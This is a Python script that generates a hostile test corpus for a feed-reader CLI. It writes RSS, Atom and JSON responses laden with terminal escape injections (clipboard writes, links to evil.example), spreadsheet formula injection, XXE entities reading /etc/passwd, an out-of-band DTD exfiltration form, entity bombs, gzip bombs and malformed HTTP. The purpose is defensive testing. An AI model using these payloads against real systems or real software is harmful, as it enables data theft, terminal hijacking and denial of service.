#!/usr/bin/env python3
"""Writes the hostile corpus: one NAME.toml and one NAME.body per case, in this directory.

Run it from anywhere with `python3 tests/hostile/make.py`; it rewrites only the cases listed
here (a case written by hand, not listed here, is left alone). The bodies are bytes, some of them
not UTF-8 and some not even text, which is why they are generated rather than typed. See
README.md for the format and for the placeholders (`{{BASE}}`, `{{NONCE}}`, `{{REPEAT:N:text}}`)
that the runner (tests/cli/hostile_corpus.rs) expands when it serves a body.
"""

import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))

# ----------------------------------------------------------------------------------------------
# Payloads: every form of escape a stranger could try on a terminal.

ESC = "\x1b"
CSI = ESC + "[2J" + ESC + "[1337;31mRED" + ESC + "[0m" + ESC + "[6n"
OSC0 = ESC + "]0;pwned-title" + "\x07"
OSC8 = ESC + "]8;;https://evil.example/" + ESC + "\\click" + ESC + "]8;;" + ESC + "\\"
OSC52 = ESC + "]52;c;ZXZpbA==" + "\x07"
DCS = ESC + "P+q544e" + ESC + "\\"
APC = ESC + "_Gf=100,a=T;AAAA" + ESC + "\\"
PM_SOS = ESC + "^privacy" + ESC + "\\" + ESC + "Xstring" + ESC + "\\"
C1_CSI = "\u009b1337;31m"
C1_OSC = "\u009d0;pwned-c1\u009c"
C1_DCS = "\u0090+q\u009c"
LONE = "tail" + ESC
BEL = "ding\x07\x07dong"
BS = "safe\x08\x08\x08\x08evil"
CR = "harmless\rEVIL"
BIDI = "\u202egnp.exe\u202c \u2066iso\u2069 \u202aemb\u202b \u2067rtl\u2068fsi\u2069"
ZW = "z\u200bw\u200cj\u200dn\ufeffb\u2060w"
ALL = CSI + OSC0 + OSC8 + OSC52 + DCS + APC + PM_SOS + C1_CSI + C1_OSC + C1_DCS + BEL + BS + CR + BIDI + ZW + LONE


def rss(items, extra="", decl='<?xml version="1.0" encoding="utf-8"?>'):
    return (
        decl
        + '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        + 'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>corpus</title>'
        + extra
        + "".join(items)
        + "</channel></rss>"
    )


def item(guid="g1", title="a title", desc="a text", link="https://example.com/a", extra=""):
    parts = ["<item>"]
    if guid is not None:
        parts.append("<guid isPermaLink=\"false\">%s</guid>" % guid)
    if title is not None:
        parts.append("<title>%s</title>" % title)
    if desc is not None:
        parts.append("<description>%s</description>" % desc)
    if link is not None:
        parts.append("<link>%s</link>" % link)
    parts.append(extra)
    parts.append("</item>")
    return "".join(parts)


def hn(hits, extra=None):
    doc = {"hits": hits, "page": 0, "nbPages": 1}
    if extra:
        doc.update(extra)
    return json.dumps(doc)


def hit(oid="1", title="t", text="x", author="a", created=1700000000):
    return {
        "objectID": oid,
        "title": title,
        "story_text": text,
        "author": author,
        "created_at_i": created,
        "points": 1,
        "num_comments": 0,
        "_tags": ["story"],
    }


def se(items, extra=None):
    doc = {"items": items, "has_more": False, "quota_max": 300, "quota_remaining": 299}
    if extra:
        doc.update(extra)
    return json.dumps(doc)


def question(qid=1, title="q", body="<p>b</p>", name="n", link="https://stackoverflow.com/q/1", created=1700000000):
    return {
        "question_id": qid,
        "title": title,
        "body": body,
        "link": link,
        "creation_date": created,
        "score": 1,
        "answer_count": 0,
        "view_count": 1,
        "tags": ["acme"],
        "owner": {"display_name": name, "reputation": 1},
    }


def status(sid="1", content="<p>hi</p>", acct="bob", url="https://mastodon.example/@bob/1", created="2024-01-01T00:00:00Z", spoiler=""):
    return {
        "id": sid,
        "url": url,
        "uri": url,
        "created_at": created,
        "content": content,
        "spoiler_text": spoiler,
        "replies_count": 0,
        "reblogs_count": 0,
        "favourites_count": 0,
        "tags": [{"name": "x"}],
        "account": {"acct": acct, "followers_count": 1},
    }


def jsonkind(items):
    return json.dumps({"items": items})


# ----------------------------------------------------------------------------------------------
# The cases. Each: name, class, what, body (str or bytes), and the .toml's other keys.

CASES = []


def case(name, cls, what, body, **keys):
    CASES.append((name, cls, what, body, keys))


# --- escape: every form, in every field, on every kind ----------------------------------------

case("esc_csi_title", "escape", "CSI (clear screen, SGR, DSR query) in an RSS title",
     rss([item(title="Title " + CSI + " end")]), stored_min=1)
case("esc_osc0_description", "escape", "OSC 0 (window title), BEL-terminated, in the description",
     rss([item(desc="text " + OSC0 + " more")]), stored_min=1)
case("esc_osc8_content_encoded", "escape", "OSC 8 hyperlink, ST-terminated, in content:encoded HTML",
     rss([item(desc=None, extra="<content:encoded><![CDATA[<p>see " + OSC8 + "</p>]]></content:encoded>")]), stored_min=1)
case("esc_osc52_author", "escape", "OSC 52 (clipboard write) in dc:creator and author",
     rss([item(extra="<dc:creator>mallory " + OSC52 + "</dc:creator><author>x@example.com (" + OSC52 + ")</author>")]), stored_min=1)
case("esc_dcs_guid", "escape", "DCS (XTGETTCAP) in the guid, which becomes the stored id",
     rss([item(guid="id-" + DCS + "-1")]), stored_min=1)
case("esc_apc_category", "escape", "APC (kitty graphics) and PM/SOS in category and comments",
     rss([item(extra="<category>" + APC + "</category><comments>https://example.com/c" + PM_SOS + "</comments>")]), stored_min=1)
case("esc_c1_csi_title", "escape", "8-bit C1 CSI U+009B, OSC U+009D and DCS U+0090 as UTF-8 in the title",
     rss([item(title="c1 " + C1_CSI + C1_OSC + C1_DCS + " end")]), stored_min=1)
case("esc_c1_raw_latin1", "escape", "raw 0x9B/0x9D bytes in an ISO-8859-1 feed: decoded they are C1 controls",
     rss([item(title="raw \x9b1337;31m c1 \x9d0;pwned\x9c end", desc="caf\xe9 \x9b2J")],
         decl='<?xml version="1.0" encoding="iso-8859-1"?>').encode("latin-1"),
     headers={"content-type": "application/rss+xml; charset=iso-8859-1"}, stored_min=1)
case("esc_lone_esc", "escape", "a lone ESC at the end of every field",
     rss([item(title=LONE, desc=LONE, guid="lone" + ESC, extra="<dc:creator>" + LONE + "</dc:creator>")]), stored_min=1)
case("esc_bel_bs_cr", "escape", "BEL, backspaces and CR overwrite tricks in title, text and author",
     rss([item(title=BEL + " " + BS, desc=CR + " " + BS, extra="<dc:creator>" + CR + "</dc:creator>")]), stored_min=1)
case("esc_csv_formula", "escape", "spreadsheet formulas in title, text and author (=HYPERLINK, +cmd, @SUM, -2+3)",
     rss([item(title='=HYPERLINK("http://evil.example/?"&amp;A1,"click")', desc="+cmd|' /C calc'!A0",
               extra="<dc:creator>@SUM(1+1)*cmd|' /C calc'!A0</dc:creator>"),
          item(guid="g2", title="-2+3", desc="\t=1+1")]), stored_min=2)
case("esc_bidi", "escape", "bidi overrides and isolates U+202A-E, U+2066-9 in title, author and link",
     rss([item(title=BIDI, desc=BIDI, link="https://example.com/" + BIDI, extra="<dc:creator>" + BIDI + "</dc:creator>")]), stored_min=1)
case("esc_zero_width", "escape", "zero-width characters and BOMs in title, author and id",
     rss([item(guid="zw" + ZW, title=ZW, extra="<dc:creator>" + ZW + "</dc:creator>")]), stored_min=1)
case("esc_char_references", "escape", "escapes written as XML character references (&#27; &#x9b; &#x202e;)",
     rss([item(title="ref &#27;[2J&#x1b;]0;pwned&#7; &#x9b;31m &#x202e;rtl &#8203;zw",
               desc="&amp;#27;[2J double-encoded &lt;b&gt;&amp;#x1b;]52;c;ZXZpbA==&amp;#7;&lt;/b&gt;")]),
     outcome="any")
case("esc_in_date", "escape", "escape sequences inside pubDate and dc:date",
     rss([item(extra="<pubDate>Mon, 01 Jan 2024 " + OSC0 + "10:00:00 GMT</pubDate><dc:date>" + CSI + "</dc:date>")]), stored_min=1)
case("esc_in_link", "escape", "OSC and CSI inside the link and a javascript: link with escapes",
     rss([item(link="https://example.com/" + OSC8 + CSI),
          item(guid="g2", link="javascript:" + OSC52)]), stored_min=1, forbid_stored=["javascript:"])
case("esc_atom_every_field", "escape", "Atom: escapes in title, summary, content, author name/email/uri, id, link href, category",
     ('<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>' + OSC0 + '</title>'
      '<entry><id>urn:' + DCS + '</id><title type="html">&lt;b&gt;' + CSI + '&lt;/b&gt;</title>'
      '<summary>' + OSC52 + '</summary><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">' + C1_CSI + BIDI + '</div></content>'
      '<author><name>' + OSC8 + '</name><email>' + BEL + '</email><uri>https://e.example/' + ESC + '</uri></author>'
      '<link href="https://example.com/' + ESC + '[2J"/><category term="' + APC + '"/>'
      '<updated>2024-01-01T00:00:00Z</updated></entry></feed>'),
     headers={"content-type": "application/atom+xml"}, stored_min=1)
case("esc_jsonfeed_every_field", "escape", "JSON Feed read by the rss kind: escapes in every field as \\u001b escapes",
     json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": OSC0, "items": [{
         "id": "jf-" + DCS, "url": "https://example.com/" + CSI, "title": ALL, "content_text": ALL,
         "content_html": "<p>" + OSC52 + "</p>", "summary": C1_OSC, "tags": [APC, BIDI],
         "authors": [{"name": OSC8 + "mallory", "url": "javascript:" + BEL}],
         "date_published": "2024-01-01T00:00:00Z" + ESC}]}),
     headers={"content-type": "application/feed+json"}, stored_min=1)
case("esc_rss1_rdf", "escape", "RSS 1.0 (RDF): escapes in dc:creator, dc:subject, title, about",
     ('<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
      'xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
      '<channel rdf:about="https://example.com/"><title>c</title></channel>'
      '<item rdf:about="https://example.com/' + ESC + ']0;x' + '\x07"><title>' + ALL + '</title>'
      '<link>https://example.com/r1</link><description>' + ALL + '</description>'
      '<dc:creator>' + OSC52 + 'eve</dc:creator><dc:subject>' + APC + '</dc:subject></item></rdf:RDF>'),
     stored_min=1)
case("esc_everything_everywhere", "escape", "every payload at once in every RSS field, twice",
     rss([item(guid="all-" + ALL, title=ALL, desc=ALL + ALL, link="https://example.com/" + ALL,
               extra="<dc:creator>" + ALL + "</dc:creator><category>" + ALL + "</category><pubDate>" + ALL + "</pubDate>")]),
     stored_min=1)
case("esc_hn_fields", "escape", "Hacker News: escapes in author, title, story_text and objectID",
     hn([hit(oid="hn-" + DCS, title=ALL, text="<p>" + ALL + "</p>", author=OSC52 + "eve")]),
     kind="hackernews", headers={"content-type": "application/json"}, stored_min=1)
case("esc_hn_comment_fields", "escape", "Hacker News comment: escapes in comment_text and story_title",
     json.dumps({"hits": [{"objectID": "c1", "comment_text": OSC8 + CSI, "story_title": C1_CSI + BIDI,
                           "author": BEL + BS, "created_at_i": 1700000000, "_tags": ["comment"]}], "page": 0, "nbPages": 1}),
     kind="hackernews", stored_min=1)
case("esc_stackexchange_fields", "escape", "Stack Exchange: escapes in title, body, owner, link",
     se([question(qid=101, title=ALL, body="<p>" + ALL + "</p>", name=OSC52 + BIDI, link="https://stackoverflow.com/q/1" + CSI)]),
     kind="stackexchange", stored_min=1)
case("esc_stackexchange_error_message", "escape", "Stack Exchange error_message with DCS, C1, bidi and APC (no OSC: those are in cli/hostile.rs)",
     json.dumps({"error_id": 400, "error_name": "bad_parameter" + DCS, "error_message": "key " + DCS + C1_CSI + BIDI + APC + LONE + " refused"}),
     kind="stackexchange", status=400, headers={"content-type": "application/json"}, outcome="error", error_contains="HTTP 400")
case("esc_mastodon_fields", "escape", "Mastodon: escapes in content, spoiler_text, acct, url and tags",
     json.dumps([status(sid="m1", content="<p>" + ALL + "</p>", acct=OSC52 + "eve", url="https://m.example/" + CSI, spoiler=OSC0 + "cw")]),
     kind="mastodon", headers={"content-type": "application/json"}, stored_min=1)
case("esc_mastodon_error", "escape", "Mastodon 422 with an escape-laden error in JSON",
     json.dumps({"error": "Validation failed " + OSC0 + CSI + C1_OSC + BIDI}),
     kind="mastodon", status=422, headers={"content-type": "application/json"}, outcome="error")
def lemmy(posts=(), comments=()):
    return json.dumps({"type_": "All", "posts": list(posts), "comments": list(comments), "communities": [], "users": []})


def lemmy_person(name):
    return {"id": 1, "name": name, "display_name": name, "actor_id": "https://lemmy.example/u/x" + CSI}


case("esc_lemmy_fields", "escape", "Lemmy: escapes in a post's name, body and link, a comment's content, the creators' names and the community",
     lemmy(posts=[{"post": {"id": 1, "name": ALL, "body": ALL, "url": "https://example.com/" + OSC8, "published": "2024-05-01T10:00:00Z",
                            "ap_id": "https://lemmy.example/post/1" + CSI},
                   "creator": lemmy_person(OSC52 + "eve"), "community": {"name": DCS + "acme", "actor_id": "https://lemmy.example/c/acme"},
                   "counts": {"score": 3, "comments": 1}}],
           comments=[{"comment": {"id": 2, "post_id": 1, "content": ALL, "path": "0.2", "published": "2024-05-01T11:00:00Z"},
                      "creator": lemmy_person(BIDI + C1_OSC), "post": {"id": 1, "name": OSC0 + "title"},
                      "community": {"name": APC, "actor_id": "x"}, "counts": {"score": 1}}]),
     kind="lemmy", headers={"content-type": "application/json"}, stored_min=2)
case("esc_lemmy_error", "escape", "Lemmy's error answer with escapes",
     json.dumps({"error": "couldnt_find_object" + OSC0 + CSI + BIDI}),
     kind="lemmy", status=400, headers={"content-type": "application/json"}, outcome="error")
case("esc_youtube_fields", "escape", "YouTube search: escapes (raw and HTML-escaped) in a video's title, description, channel and id",
     json.dumps({"kind": "youtube#searchListResponse", "items": [
         {"id": {"kind": "youtube#video", "videoId": "v-" + DCS},
          "snippet": {"publishedAt": "2024-05-01T10:00:00Z", "channelId": "UC" + CSI, "title": ALL + "&lt;b&gt;&amp;#27;[2J",
                      "description": ALL, "channelTitle": OSC52 + BIDI}},
         {"id": {"kind": "youtube#channel", "channelId": "UCx"}, "snippet": {"title": OSC0}}]}),
     kind="youtube", headers={"content-type": "application/json; charset=UTF-8"}, stored_min=1)
case("esc_youtube_quota_error", "escape", "YouTube's 403 with escapes in its message (the quota, then spent)",
     json.dumps({"error": {"errors": [{"domain": "youtube.quota", "reason": "quotaExceeded", "message": OSC0 + CSI}],
                           "code": 403, "message": "quota " + OSC8 + C1_OSC + BIDI}}),
     kind="youtube", status=403, headers={"content-type": "application/json"}, outcome="error")
case("esc_appstore_fields", "escape", "App Store reviews: escapes in the title, the words, the author, the version and the rating",
     json.dumps({"feed": {"entry": [
         {"id": {"label": "900" + DCS}, "title": {"label": ALL}, "content": {"label": ALL, "attributes": {"type": "text"}},
          "author": {"name": {"label": OSC52 + "eve"}}, "im:rating": {"label": "1" + CSI}, "im:version": {"label": OSC0 + "2.0"}},
         {"id": {"label": "901"}, "title": {"label": "fine"}, "content": {"label": BIDI + "ok"},
          "author": {"name": {"label": C1_OSC}}, "im:rating": {"label": "4"}, "im:version": {"label": "2.1"}}]}}),
     kind="appstore", headers={"content-type": "text/javascript; charset=utf-8"}, stored_min=2)
case("esc_flickr_fields", "escape", "Flickr: escapes in a photo's title, description, tags, owner name and id",
     json.dumps({"photos": {"page": 1, "pages": 1, "photo": [
         {"id": "77" + CSI, "owner": "1@N0" + OSC8, "title": ALL, "description": {"_content": "<b>" + ALL + "</b>"},
          "ownername": OSC52 + BIDI, "dateupload": "1700000000", "views": "12" + APC, "tags": DCS + " acme"}]}, "stat": "ok"}),
     kind="flickr", headers={"content-type": "application/json"}, stored_min=1)
case("esc_flickr_fail", "escape", "Flickr's stat:fail answer (HTTP 200) with escapes in its message",
     json.dumps({"stat": "fail", "code": 100, "message": "Invalid API Key " + OSC0 + CSI + BIDI}),
     kind="flickr", headers={"content-type": "text/plain"}, outcome="error")
case("esc_json_kind_fields", "escape", "the json kind: escapes in every mapped field",
     jsonkind([{"id": "j-" + DCS, "url": "https://example.com/" + CSI, "author": OSC52, "title": ALL, "text": ALL,
                "time": "2024-01-01T00:00:00Z"}]),
     kind="json", stored_min=1)
case("esc_json_kind_numbers_as_text", "escape", "the json kind: an id that is an object, a title that is a number, text an array",
     jsonkind([{"id": {"x": OSC0}, "title": 1e308, "text": [OSC52], "author": None, "time": OSC0}, {"id": "ok", "text": "fine"}]),
     kind="json", outcome="any")
case("esc_html_error_page_title", "escape", "a 200 HTML page (not a feed) whose <title> holds escapes",
     "<!DOCTYPE html><html><head><title>Sign in " + OSC0 + CSI + C1_CSI + BIDI + "</title></head><body>" + OSC52 + "</body></html>",
     headers={"content-type": "text/html; charset=utf-8"}, outcome="error", error_contains="HTML page")
case("esc_html_error_500", "escape", "a 500 with an HTML error page full of escapes",
     "<html><head><title>" + ALL + "</title></head><body><h1>" + ALL + "</h1></body></html>",
     status=500, headers={"content-type": "text/html"}, outcome="error", error_contains="500")
case("esc_plain_text_error_503", "escape", "a 503 with a plain-text body of escapes and a Retry-After",
     "Service down " + ALL, status=503, headers={"content-type": "text/plain", "retry-after": "1"}, outcome="error")
case("esc_malformed_xml_names", "escape", "broken XML whose tag and attribute names hold DCS, C1 and bidi",
     '<?xml version="1.0"?><rss version="2.0"><chan' + DCS + 'nel><it\u009bem a' + BIDI + '="1"><ti' + ESC + 'tle>x</title></item>',
     outcome="any")
case("esc_xml_doctype_pi_comment", "escape", "escapes in the DOCTYPE name, a processing instruction and a comment",
     '<?xml version="1.0"?><!DOCTYPE rss' + ESC + '[2J><?pi ' + OSC0 + '?><!-- ' + OSC52 + ' -->' + rss([item()], decl=""),
     outcome="any")
case("esc_redirect_location", "escape", "a 302 to ftp: whose Location holds OSC 0 and CSI",
     "", status=302, headers={"location": "ftp://127.0.0.1/" + OSC0 + CSI}, outcome="error")
case("esc_redirect_location_file", "escape", "a 301 to file:///etc/passwd with bidi and C1 in the Location",
     "", status=301, headers={"location": "file:///etc/passwd" + BIDI + C1_CSI}, outcome="error", forbid_stored=["root:"])
case("esc_content_type_header", "escape", "a content-type and charset label made of escapes",
     rss([item()]), headers={"content-type": "application/rss+xml; charset=\"utf-8" + OSC0 + "\""}, outcome="any")
case("esc_retry_after_header", "escape", "a 429 whose Retry-After is an escape sequence",
     "slow down " + OSC0, status=429, headers={"retry-after": OSC0 + "120"}, outcome="error")
case("esc_raw_status_line", "escape", "an HTTP status line whose reason phrase holds OSC 0 and CSI (raw response)",
     (b"HTTP/1.1 500 Oops \x1b]0;pwned\x07\x1b[2J\xc2\x9b31m\r\ncontent-type: text/plain\r\ncontent-length: 4\r\n"
      b"connection: close\r\n\r\nfail"),
     behaviour="raw", outcome="error")
case("esc_raw_header_names", "escape", "header names and values with ESC and C1 bytes (raw response)",
     (b"HTTP/1.1 200 OK\r\nx-\x1b]0;pwned\x07: 1\r\ncontent-type: application/rss+xml\x1b[2J\r\n"
      b"etag: \"\x1b]52;c;ZXZpbA==\x07\"\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"),
     behaviour="raw", outcome="any")
case("esc_invalid_utf8_with_esc", "escape", "undeclared bytes that are not UTF-8, with ESC and 0x9B among them",
     (b'<?xml version="1.0"?><rss version="2.0"><channel><title>c</title><item><guid>u1</guid><title>\xff\xfe '
      b'\x1b]0;pwned\x07 \x9b31m \xc3\x28 \xe2\x80\xae rtl</title><description>\x80\x81\x9b2J\x9d0;x\x9c</description></item></channel></rss>'),
     outcome="any")

# --- entities -----------------------------------------------------------------------------------

LAUGHS = ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol "lol">'
          + "".join('<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10) for i in range(1, 10))
          + ']>')
case("ent_billion_laughs", "entities", "billion laughs: nine levels of ten references",
     LAUGHS + rss([item(title="&lol9;", desc="&lol9;")], decl=""), outcome="any")
case("ent_billion_laughs_attribute", "entities", "billion laughs expanded inside an attribute value",
     LAUGHS + rss([item(extra='<enclosure url="&lol9;" type="audio/mpeg" length="1"/>')], decl=""), outcome="any")
case("ent_quadratic_blowup", "entities", "quadratic blowup: one 50 kB entity referenced 5000 times",
     '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + "A" * 50000 + '">]>'
     + rss([item(title="{{REPEAT:5000:&a;}}")], decl=""), outcome="any")
case("ent_external_file", "entities", "an external entity to file:///etc/passwd used in the title",
     '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + rss([item(title="leak &xxe; end", desc="&xxe;")], decl=""),
     outcome="any", forbid_stored=["root:"])
case("ent_external_http", "entities", "an external entity over HTTP to the test server: never fetched",
     '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "{{BASE}}/ent_external_http/leak">]>' + rss([item(title="t &xxe;")], decl=""),
     outcome="any", no_request="/ent_external_http/leak", forbid_stored=["LEAKED"])
case("ent_parameter_external_dtd", "entities", "parameter entities loading an external DTD (the OOB exfiltration form)",
     ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % file SYSTEM "file:///etc/hostname">'
      '<!ENTITY % dtd SYSTEM "{{BASE}}/ent_parameter_external_dtd/evil.dtd">%dtd;%send;]>' + rss([item()], decl="")),
     outcome="any", no_request="/ent_parameter_external_dtd/evil.dtd")
case("ent_recursive", "entities", "entities that reference each other in a loop",
     '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' + rss([item(title="&a;")], decl=""),
     outcome="any")
case("ent_external_dtd_public", "entities", "a DOCTYPE with a PUBLIC external DTD on the test server: never fetched",
     '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//X//Y" "{{BASE}}/ent_external_dtd_public/x.dtd">' + rss([item()], decl=""),
     outcome="any", no_request="/ent_external_dtd_public/x.dtd")
case("ent_escape_in_entity", "entities", "an internal entity whose value is an escape sequence",
     '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e "' + OSC0 + CSI + '"><!ENTITY r "&#27;]52;c;ZXZpbA==&#7;">]>'
     + rss([item(title="&e; and &r;", desc="&r;")], decl=""), outcome="any")

# --- resources ------------------------------------------------------------------------------------

case("res_body_100mb", "resources", "a 100 MB body (generated), far past max_body",
     "", behaviour="huge:100000000", outcome="error", error_contains="larger than|timed out")
case("res_gzip_bomb", "resources", "50 MB of zeros gzipped to about 50 kB",
     "", behaviour="gzip_bomb:50000000", outcome="error", error_contains="larger than|timed out")
case("res_xml_nested_100k", "resources", "XML elements nested 100,000 deep after a good item",
     rss([item(guid="deep-ok"), "{{REPEAT:100000:<x>}}{{REPEAT:100000:</x>}}"]), outcome="any")
case("res_xml_nested_100k_in_item", "resources", "XML nested 100,000 deep inside an item's description, unclosed",
     rss([item(guid="deep-in", desc="{{REPEAT:100000:<b>}}")]), outcome="any")
case("res_html_nested_100k", "resources", "escaped HTML nested 100,000 deep in a description (html2text's recursion)",
     rss([item(guid="html-deep", desc="{{REPEAT:100000:&lt;div&gt;}}deep{{REPEAT:100000:&lt;/div&gt;}}")]), outcome="any")
case("res_json_nested_100k_hn", "resources", "Hacker News JSON nested 100,000 deep",
     '{"hits":[{{REPEAT:100000:[}}{{REPEAT:100000:]}}],"page":0,"nbPages":1}',
     kind="hackernews", outcome="error")
case("res_json_nested_100k_jsonfeed", "resources", "a JSON Feed whose item is an object nested 100,000 deep",
     '{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","content_text":"ok"},{{REPEAT:100000:{"a":}}1{{REPEAT:100000:} }}]}',
     headers={"content-type": "application/feed+json"}, outcome="any")
case("res_json_nested_100k_mastodon", "resources", "a Mastodon timeline of arrays nested 100,000 deep",
     "{{REPEAT:100000:[}}{{REPEAT:100000:]}}", kind="mastodon", outcome="error")
case("res_title_1mb", "resources", "a 1 MB title and a 1 MB description (generated)",
     rss([item(guid="big", title="{{REPEAT:1000000:A}}", desc="{{REPEAT:100000:word }}")]), stored_min=1)
case("res_title_1mb_one_word_with_escapes", "resources", "a 1 MB title that is one word sprinkled with CSI",
     rss([item(guid="bigesc", title="{{REPEAT:100000:AB\x1b[2JCD}}")]), stored_min=1)
case("res_100k_items", "resources", "100,000 items in one page (generated, about 6 MB)",
     rss(["{{REPEAT:100000:<item><guid>i{i}</guid><title>t{i}</title></item>}}"]), stored_min=1)
case("res_nul_bytes", "resources", "NUL bytes in the title, the text, the author and the id",
     rss([item(guid="nul\x00id", title="nul\x00title", desc="a\x00b\x00c", extra="<dc:creator>n\x00ul</dc:creator>")]).encode(),
     outcome="any")
case("res_nul_json", "resources", "NUL characters as \\u0000 in Hacker News JSON",
     hn([hit(oid="n\u0000", title="t\u0000t", text="x\u0000" + OSC0, author="\u0000")]), kind="hackernews", stored_min=1)
case("res_invalid_utf8_declared", "resources", "a feed that declares UTF-8 and is not (lone continuation bytes, overlongs, surrogates)",
     (b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>c</title><item><guid>bad</guid>'
      b'<title>a\x80b \xc0\xaf \xed\xa0\x80 \xf4\x90\x80\x80 \xf8\x88\x80\x80\x80 end</title></item></channel></rss>'),
     headers={"content-type": "application/rss+xml; charset=utf-8"}, outcome="any")
case("res_binary_garbage", "resources", "4 kB of pseudo-random bytes with a feed content-type",
     bytes((i * 2654435761 >> 13) & 0xFF for i in range(4096)),
     headers={"content-type": "application/rss+xml"}, outcome="error")
case("res_empty_body", "resources", "an empty 200 with a feed content-type",
     "", headers={"content-type": "application/rss+xml"}, outcome="error")
case("res_utf16_lie", "resources", "a body that declares UTF-16 and is ASCII",
     rss([item()], decl='<?xml version="1.0" encoding="UTF-16"?>'), headers={"content-type": "application/rss+xml; charset=utf-16"},
     outcome="any")
case("res_many_attributes", "resources", "an item with 100,000 attributes",
     rss(['<item {{REPEAT:100000:a{i}="1" }}><guid>attrs</guid><title>t</title></item>']), outcome="any")

# --- slow and reset -------------------------------------------------------------------------------

case("slow_never_answers", "slow", "reads the request and never writes a byte",
     "", behaviour="never_answer", outcome="error", error_contains="timed out")
case("slow_stalls_mid_body", "slow", "sends the head and 100 bytes of the body, then stalls",
     rss([item(title="stalled " + "x" * 400)]), behaviour="stall_after:100", outcome="error", error_contains="timed out")
case("slow_stalls_chunked", "slow", "chunked, stalls after 200 bytes",
     rss([item(title="stalled " + "x" * 400)]), behaviour="stall_after:200", chunked=True, outcome="error")
case("reset_cut_mid_body", "slow", "announces the full length, sends 150 bytes and closes",
     rss([item(title="cut " + "x" * 400)]), behaviour="cut_after:150", outcome="any")
case("reset_cut_chunked", "slow", "chunked, closes after 150 bytes without the last chunk",
     rss([item(title="cut " + "x" * 400)]), behaviour="cut_after:150", chunked=True, outcome="any")
case("reset_lying_content_length", "slow", "content-length says 10,000 and the body is 60 bytes (raw)",
     b"HTTP/1.1 200 OK\r\ncontent-type: application/rss+xml\r\ncontent-length: 10000\r\nconnection: close\r\n\r\n<rss version=\"2.0\"><channel><item><title>lie</title>",
     behaviour="raw", outcome="any")
case("reset_not_http", "slow", "answers with bytes that are not HTTP at all (raw), ESC included",
     b"\x1b]0;pwned\x07SSH-2.0-OpenSSH_9.6\r\n\x00\x01\x02\x9b2J", behaviour="raw", outcome="error")
case("reset_slow_head", "slow", "waits 1.5 s before answering, then answers well (under the 3 s timeout)",
     rss([item(guid="late")]), behaviour="delay:1500", stored_min=1)

# --- ids ------------------------------------------------------------------------------------------

case("id_duplicate_in_page", "ids", "the same guid three times in one page, with different titles",
     rss([item(guid="dup", title="first"), item(guid="dup", title="second " + OSC0), item(guid="dup", title="third")]),
     stored_min=1, stored_max=1)
case("id_100k_chars", "ids", "a guid of 100,000 characters (generated)",
     rss([item(guid="{{REPEAT:100000:i}}", title="long id")]), outcome="any")
case("id_volatile_link", "ids", "no guid; the link's query changes on every fetch (polled twice)",
     rss([item(guid=None, title="same story", desc="same text", link="https://example.com/story?sid={{NONCE}}")]),
     stored_min=1, stored_max=1)
case("id_volatile_guid_same_content", "ids", "a guid that changes on every fetch, content the same (polled twice): a new mention each time is what ids mean",
     rss([item(guid="v-{{NONCE}}", title="same", desc="same")]), stored_min=1, stored_max=2)
case("id_empty_and_blank", "ids", "empty and blank guids fall back to the link",
     rss([item(guid="", link="https://example.com/e1"), item(guid="   ", link="https://example.com/e2"), item(guid="\t\n", link="https://example.com/e3")]),
     stored_min=3, stored_max=3)
case("id_hn_odd_object_ids", "ids", "Hacker News objectIDs: a huge number, a negative, an object, null, a duplicate",
     json.dumps({"hits": [
         {"objectID": 10 ** 30, "title": "big", "created_at_i": 1700000000},
         {"objectID": -1, "title": "neg", "created_at_i": 1700000000},
         {"objectID": {"x": 1}, "title": "obj", "created_at_i": 1700000000},
         {"objectID": None, "title": "null", "created_at_i": 1700000000},
         {"objectID": "7", "title": "dup a", "created_at_i": 1700000000},
         {"objectID": "7", "title": "dup b", "created_at_i": 1700000000}], "page": 0, "nbPages": 1}),
     kind="hackernews", outcome="any")
case("id_mastodon_huge_id", "ids", "a Mastodon status id of 100,000 digits",
     '[{"id":"{{REPEAT:100000:9}}","content":"<p>big id</p>","created_at":"2024-01-01T00:00:00Z","account":{"acct":"a"}}]',
     kind="mastodon", outcome="any")

# --- dates ----------------------------------------------------------------------------------------

DATES = [
    ("date_year_0", "year 0 in RFC 822 and ISO 8601", ["Sat, 01 Jan 0000 00:00:00 GMT", "0000-01-01T00:00:00Z"]),
    ("date_1900", "1900, before any feed", ["Mon, 01 Jan 1900 00:00:00 GMT", "1900-01-01"]),
    ("date_1970_epoch", "the epoch and one second before it", ["Thu, 01 Jan 1970 00:00:00 GMT", "1969-12-31T23:59:59Z"]),
    ("date_9999", "the last day of year 9999, and 10000", ["Fri, 31 Dec 9999 23:59:59 GMT", "10000-01-01T00:00:00Z"]),
    ("date_25_61", "hour 25, minute 61, second 99, 31 February", ["Mon, 01 Jan 2024 25:61:99 GMT", "2024-02-31T10:00:00Z"]),
    ("date_huge_numbers", "years and days with twenty digits, offsets of a million hours",
     ["Mon, 99999999999999999999 Jan 2024 00:00:00 GMT", "99999999999999999999-01-01T00:00:00+999999:00"]),
    ("date_garbage", "words, an empty date, a date of 10,000 digits",
     ["yesterday-ish " + OSC0, "", "{{REPEAT:10000:9}}"]),
]
for name, what, forms in DATES:
